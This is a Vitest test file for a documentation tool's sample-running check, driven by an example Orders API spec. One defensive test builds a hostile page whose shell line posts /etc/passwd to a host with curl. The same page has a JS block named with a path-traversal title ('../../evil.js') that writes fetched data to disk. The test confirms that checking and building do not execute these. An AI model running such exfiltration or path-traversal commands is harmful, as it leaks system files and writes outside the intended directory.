import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { text } from 'node:stream/consumers';
import { once } from 'node:events';
import { join, resolve } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, onTestFinished } from 'vitest';
import { close, listen } from '../../support/serve.ts';
import { type SiteDriver, site } from '../../support/site.ts';
import { docsCommand } from '../../support/docs-command.ts';

const BIN = resolve(import.meta.dirname, '../../../bin/docs.js');
let driver: SiteDriver;

const API = `openapi: 3.1.0
info: { title: Orders, version: '1' }
servers: [{ url: https://api.example.com/v1 }]
security: [{ token: [] }]
paths:
  /orders:
    post:
      operationId: createOrder
      requestBody: { required: true, content: { application/json: { schema: { $ref: '#/components/schemas/NewOrder' } } } }
      responses: { '201': { description: made, content: { application/json: { schema: { $ref: '#/components/schemas/Order' } } } } }
  /orders/{orderId}:
    parameters: [{ name: orderId, in: path, required: true, schema: { type: string } }]
    get:
      operationId: getOrder
      responses: { '200': { description: ok, content: { application/json: { schema: { $ref: '#/components/schemas/Order' } } } } }
    delete:
      operationId: deleteOrder
      responses: { '204': { description: gone } }
components:
  securitySchemes: { token: { type: http, scheme: bearer } }
  schemas:
    NewOrder: { type: object, required: [product], properties: { product: { type: string }, count: { type: integer } } }
    Order:
      type: object
      properties:
        id: { type: string, examples: [ord_7] }
        product: { type: string, examples: [tea] }
        count: { type: integer, examples: [1] }
        status: { type: string, enum: [pending, done] }
`;

const PAGE = `# Orders

\`\`\`sh save="ORDER=.id"
auth="Authorization: Bearer $API_KEY"
product=milk
mkdir work && cd work && npm install nothing
curl -s https://api.example.com/v1/orders -H "$auth" --json '{ "product": "'$product'", "count": 2 }'
\`\`\`

\`\`\`json title="Response 201"
{ "id": "ord_1", "product": "tea", "count": 1, "status": "pending" }
\`\`\`

\`\`\`sh
test "$(basename "$PWD")" = work
until curl -s "https://api.example.com/v1/orders/$ORDER" -H "$auth" | grep done; do sleep 0.05; done
\`\`\`

\`\`\`sh sample="fails 401"
curl -s https://api.example.com/v1/orders/$ORDER
\`\`\`

\`\`\`ts
const headers: Record<string, string> = { Authorization: \`Bearer \${process.env.API_KEY}\`, 'Content-Type': 'application/json' };
const made = await fetch('https://api.example.com/v1/orders', { method: 'POST', headers, body: JSON.stringify({ product: 'bread' }) });
const order = await made.json();
\`\`\`

\`\`\`js
if (process.env.ORDER !== 'ord_7') throw new Error(\`saved: \${process.env.ORDER}\`);
const got = await fetch(\`https://api.example.com/v1/orders/\${order.id}\`, { headers });
console.log(JSON.stringify(await got.json()));
\`\`\`

\`\`\`json sample="response 200 exact"
{ "id": "ord_2", "product": "bread", "count": 1, "status": "done" }
\`\`\`
`;

const FILES = `# Files

\`\`\`ts title="orders.ts"
import { createClient } from '@example/orders';
const orders = createClient(process.env.API_KEY ?? '');

export const order = (product: unknown) => orders.createOrder(product);
\`\`\`

\`\`\`json title="Response 201"
{ "id": "ord_1", "product": "tea" }
\`\`\`

\`\`\`ts title="main.ts" sample="hidden"
import { order } from './orders.js';
export const main = async (product: unknown = 'tea') => console.log(await order(product));
await main();
\`\`\`

\`\`\`sh
mkdir sub && cd sub
node main.js
\`\`\`
`;

const CLIENT = `import { readFileSync } from 'node:fs';
const all = JSON.parse(readFileSync(process.env['DOCS_OPERATIONS'] ?? '', 'utf8'));
export const createClient = (key: string) => ({
  createOrder: async (product: unknown) => {
    const { method, path } = all.find(({ id }: { id: string }) => id === 'createOrder');
    const headers = { Authorization: \`Bearer \${key}\`, 'Content-Type': 'application/json' };
    const body = JSON.stringify({ product });
    const response = await fetch('https://api.example.com/v1' + path, { method, headers, body });
    if (!response.ok) throw new Error(await response.text());
    return response.json();
  },
});
`;

beforeEach(() => {
  driver = site({
    'site.config.ts': `export default { title: 'T', url: 'https://t.example', openapi: [{ spec: 'api.yaml' }], samples: { env: ['API_KEY'] } };\n`,
    'api.yaml': API,
    'content/docs/a.md': PAGE,
  }).warm();
});
afterEach(() => driver.dispose());

/** Runs the page with a text of it replaced. */
function run(from = '', to = '') {
  if (!PAGE.includes(from)) throw new Error(`the page has no ${from}`);
  driver.write(
    'content/docs/a.md',
    PAGE.replace('"status": "done"', '"status": "pending"').replace(from, () => to),
  );
  return docs('check-samples', '--run');
}

function docs(...args: readonly string[]) {
  return docsCommand(args, { cwd: driver.dir });
}

describe('docs check-samples --run', () => {
  it('runs a page from its first block to its last, and prints each one before', async () => {
    const { status, stderr } = await run();
    expect(stderr).toContain('0 errors, 0 warnings');
    expect(stderr).toContain('content/docs/a.md:4\n  auth=');
    expect(status).toBe(0);
  });

  it.each([
    [
      'a credential',
      ` -H "$auth" --json`,
      ' --json',
      'POST /orders needs the header Authorization',
    ],
    [
      'a wrong field type',
      '"count": 2',
      '"count": "2"',
      '"/count" in the body must be a whole number',
    ],
    ['a value that is not saved', ' save="ORDER=.id"', '', '/v1/orders/'],
    [
      'a wrong id',
      'orders/${order.id}',
      'orders/ord_9',
      'no request before it has created /orders/ord_9',
    ],
    [
      'a variable of a block that is gone',
      'const order = await made.json();',
      '',
      'order is not defined',
    ],
    ['a field that the response lacks', '"product": "tea"', '"item": "tea"', 'sample-response'],
    [
      'another value where all is exact',
      '"product": "bread", "count"',
      '"product": "butter", "count"',
      'but the page shows "butter"',
    ],
    [
      'a request that fails with another status',
      'fails 401',
      'fails 404',
      'the block should get 404, but gets 401 (GET /orders/{orderId} needs',
    ],
    [
      'a request that is right where it should fail',
      'curl -s https://api.example.com/v1/orders/$ORDER\n',
      'curl -s https://api.example.com/v1/orders/$ORDER -H "$auth"\n',
      'the block should get 401, but gets 200',
    ],
    [
      'a credential that nobody has issued',
      'Bearer $API_KEY',
      'Bearer made-up',
      'the credential for "token" is unknown',
    ],
    [
      'another status',
      'title="Response 201"',
      'title="Response 204"',
      'shows status 204, but the response has 201',
    ],
    [
      'a path of nothing that is saved',
      '"ORDER=.id"',
      '"ORDER=.data.id"',
      'the response has no .data.id to save',
    ],
    ['a command that fails', 'test "$(basename', 'exit 3; test "$(basename', 'exit status 3'],
    [
      'another host',
      "fetch('https://api.example.com/v1/orders'",
      "fetch('https://other.example/'",
      'ended with exit status 1',
    ],
    [
      'a package that is not installed',
      'const headers: Rec',
      "import 'not-there';\nconst headers: Rec",
      "Cannot find package 'not-there'",
    ],
  ])('finds %s', async (...[, from, to, message]) => {
    const { stderr } = await run(from, to);
    expect(stderr).toContain(message);
    expect(stderr).not.toContain('0 errors, 0 warnings');
  });

  it('runs files by their names, blocks that readers do not see, and clients of the configuration', async () => {
    const write = async (main: string): Promise<string> => {
      driver.write(
        'content/docs/a.md',
        FILES.replace('main();', () => main),
      );
      return (await docs('check-samples', '--run', '--fail-on', 'warning')).stderr;
    };
    driver.write('client.ts', CLIENT);
    driver.write(
      'site.config.ts',
      `export default { title: 'T', url: 'https://t.example', openapi: [{ spec: 'api.yaml' }], samples: { env: ['API_KEY'], clients: [{ import: '@example/orders', module: 'client.ts' }] } };\n`,
    );
    expect(await write('main();')).toContain('0 errors, 0 warnings');
    expect(await write('main(1);')).toContain('"/product" in the body must be');
    expect(await write('mine();')).toContain('mine is not defined');
  });

  it('passes requests on to a server, with the variables of the configuration and nothing else', async () => {
    const got: string[] = [];
    const server = createServer((request, response) => {
      got.push(`${request.method} ${request.url} ${request.headers.authorization}`);
      response.setHeader('Content-Type', 'application/json');
      response.statusCode = request.headers.authorization === 'Bearer s3cret' ? 200 : 401;
      response.end('{ "id": "real", "product": "tea" }');
    });
    const url = await listen(server);
    onTestFinished(() => close(server));
    const page = `\`\`\`sh save="ORDER=.id"
test -z "$OTHER_KEY"
curl -s https://api.example.com/v1/orders/ord_7 -H "Authorization: Bearer $API_KEY"
\`\`\`

\`\`\`sh sample="fails 401"
curl -s https://api.example.com/v1/orders/$ORDER -H "Authorization: Bearer wrong"
\`\`\`
`;
    driver.write('content/docs/a.md', page);
    const runWith = async (key: string) => {
      const env = { ...process.env, API_KEY: key, OTHER_KEY: 'x' };
      const args = [BIN, 'check-samples', '--run', '--server', url];
      const child = spawn(process.execPath, args, { cwd: driver.dir, env });
      const [said, [status]] = await Promise.all([text(child.stderr), once(child, 'close')]);
      return { said, status };
    };
    expect(await runWith('s3cret')).toMatchObject({ status: 0 });
    expect(got).toEqual(['GET /v1/orders/ord_7 Bearer s3cret', 'GET /v1/orders/real Bearer wrong']);
    expect((await runWith('old')).said).toContain('GET /orders/{orderId}: the server answers 401');
  });

  it('leaves files and hosts alone that a hostile page names, until it runs', async () => {
    const seen = join(tmpdir(), `docs-hostile-${process.pid}`);
    const hostile = `\`\`\`sh
touch ${seen}; curl -s https://api.example.com/v1/orders -d @/etc/passwd
\`\`\`

\`\`\`js title="../../evil.js"
import { writeFileSync } from 'node:fs';
writeFileSync(${JSON.stringify(seen)}, await (await fetch('https://api.example.com/v1/orders')).text());
\`\`\`
`;
    driver.write('content/docs/a.md', hostile);
    await docs('check-samples');
    await docs('build');
    expect(existsSync(seen)).toBe(false);
  });

  it('runs nothing without the flag, and wants it for --server', async () => {
    driver.write('content/docs/a.md', PAGE.replace('auth=', 'exit 3; auth='));
    const { stderr } = await docs('check-samples');
    expect(stderr).not.toContain('sample-run');
    expect((await docs('check-samples', '--server', 'http://127.0.0.1:9')).status).toBe(2);
  });
});
